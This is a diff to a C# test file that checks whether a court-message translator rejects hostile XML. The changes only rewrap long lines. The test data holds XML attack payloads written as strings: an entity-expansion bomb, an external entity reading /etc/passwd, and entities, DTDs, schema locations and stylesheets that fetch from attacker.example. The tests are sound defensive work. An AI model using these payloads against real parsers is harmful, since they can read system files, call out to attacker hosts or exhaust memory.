@@ -12,7 +12,8 @@ public sealed class HostileDocumentTests
     public static TheoryData<string, string, string> Hostile => new()
     {
         { "document type", "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>", QuarantineCode.DocumentType },
-        { "entity bomb", "<!DOCTYPE a [<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY n \"&m;&m;&m;&m;&m;&m;&m;&m;&m;&m;\">]><a>&n;</a>", QuarantineCode.DocumentType },
+        { "entity bomb", "<!DOCTYPE a [<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY n "
+            + "\"&m;&m;&m;&m;&m;&m;&m;&m;&m;&m;\">]><a>&n;</a>", QuarantineCode.DocumentType },
         { "external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", QuarantineCode.DocumentType },
         { "external entity over the network", "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://attacker.example/x\">]><a>&x;</a>", QuarantineCode.DocumentType },
         { "parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\">%p;]><a/>", QuarantineCode.DocumentType },
@@ -54,25 +55,30 @@ public sealed class HostileDocumentTests
     public void A_schema_location_is_never_followed()
     {
         var text = Countries.Sample("XA", "hearing-abroad.xml")
-            .Replace("<DeliverRequest ", "<DeliverRequest xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\" ", StringComparison.Ordinal);
+            .Replace("<DeliverRequest ",
+                "<DeliverRequest xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\" ",
+                StringComparison.Ordinal);
 
         Assert.Equal(TranslationOutcome.Complete, Countries.Translate("XA", text).Outcome);
     }
 
     [Fact]
     public void A_processing_instruction_has_no_effect() =>
-        Assert.Equal(TranslationOutcome.Complete, Countries.Translate("XA", Countries.Sample("XA", "hearing-abroad.xml").Replace("<DeliverRequest ", "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?><DeliverRequest ", StringComparison.Ordinal)).Outcome);
+        Assert.Equal(TranslationOutcome.Complete, Countries.Translate("XA", Countries.Sample("XA", "hearing-abroad.xml")
+            .Replace("<DeliverRequest ", "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?><DeliverRequest ", StringComparison.Ordinal)).Outcome);
 
     [Fact]
     public void A_hostile_document_inside_a_payload_is_no_better_than_outside() =>
         Assert.Equal(QuarantineCode.DocumentType, Countries.Translate("XA",
-            "<RouteData xmlns=\"http://schemas.cjse.gov.uk/common/operations\"><DataStream><DataStreamContent>&lt;!DOCTYPE a SYSTEM \"http://attacker.example/\"&gt;&lt;a/&gt;</DataStreamContent></DataStream></RouteData>").Reason?.Code);
+            "<RouteData xmlns=\"http://schemas.cjse.gov.uk/common/operations\"><DataStream><DataStreamContent>&lt;!DOCTYPE a SYSTEM "
+                + "\"http://attacker.example/\"&gt;&lt;a/&gt;</DataStreamContent></DataStream></RouteData>").Reason?.Code);
 
     [Fact]
     public void A_reason_never_repeats_what_the_file_says()
     {
         const string canary = "Ilvane-Torrest-Canary";
-        var texts = new[] { $"<a>{canary}</b>", $"{{\"{canary}\":1,\"{canary}\":2}}", $"{{\"a\":\"{canary}\"", $"{canary}", $"<!DOCTYPE {canary} [<!ENTITY x \"{canary}\">]><a/>" };
+        var texts = new[] { $"<a>{canary}</b>", $"{{\"{canary}\":1,\"{canary}\":2}}", $"{{\"a\":\"{canary}\"", $"{canary}",
+            $"<!DOCTYPE {canary} [<!ENTITY x \"{canary}\">]><a/>" };
 
         foreach (var text in texts.Select(t => t))
         {
@@ -84,7 +90,8 @@ public sealed class HostileDocumentTests
     [Fact]
     public void No_damage_to_a_real_message_makes_the_translation_throw()
     {
-        var samples = new[] { Countries.Sample("XA", "hearing-abroad.xml"), Countries.Sample("XB", "hearing-result.json"), Countries.Sample("XB", "answer-evidence.json") }.Select(Encoding.UTF8.GetBytes).ToArray();
+        var samples = new[] { Countries.Sample("XA", "hearing-abroad.xml"), Countries.Sample("XB", "hearing-result.json"),
+            Countries.Sample("XB", "answer-evidence.json") }.Select(Encoding.UTF8.GetBytes).ToArray();
 
         Gen.Select(Gen.Int[0, samples.Length - 1], Gen.Int[0, 3000], Gen.Int[0, 40], Gen.Byte).Sample((which, at, length, with) =>
         {
@@ -103,7 +110,8 @@ public sealed class HostileDocumentTests
     [Fact]
     public void A_message_cut_off_anywhere_never_becomes_an_act()
     {
-        foreach (var (state, text) in new[] { ("XA", Countries.Sample("XA", "hearing-abroad.xml").TrimEnd()), ("XB", Countries.Sample("XB", "answer-evidence.json").TrimEnd()) })
+        foreach (var (state, text) in new[] { ("XA", Countries.Sample("XA", "hearing-abroad.xml").TrimEnd()),
+            ("XB", Countries.Sample("XB", "answer-evidence.json").TrimEnd()) })
         {
             var bytes = Encoding.UTF8.GetBytes(text);
             for (var length = 0; length < bytes.Length; length += 37)
